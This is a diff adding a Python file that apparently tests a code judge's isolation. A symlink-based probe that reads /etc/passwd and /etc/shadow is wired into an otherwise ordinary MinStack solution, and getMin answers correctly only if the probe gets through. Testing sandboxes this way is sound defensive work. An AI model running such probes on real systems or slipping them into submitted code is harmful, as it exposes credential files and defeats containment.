@@ -1,0 +1,32 @@
+# Follows a symbolic link out of the work folder.
+# Answers rightly only when that got through, so anything but WA is an escape.
+GOT = False
+
+
+def attack():
+    import os
+    os.symlink("/etc/passwd", "link")
+    return "root" in open("link").read() and open("/etc/shadow").read(1)
+
+
+try:
+    GOT = bool(attack())
+except Exception:
+    pass
+
+
+class MinStack:
+    def __init__(self):
+        self.items = []
+
+    def push(self, val):
+        self.items.append(val)
+
+    def pop(self):
+        self.items.pop()
+
+    def top(self):
+        return self.items[-1]
+
+    def getMin(self):
+        return min(self.items) if GOT else None
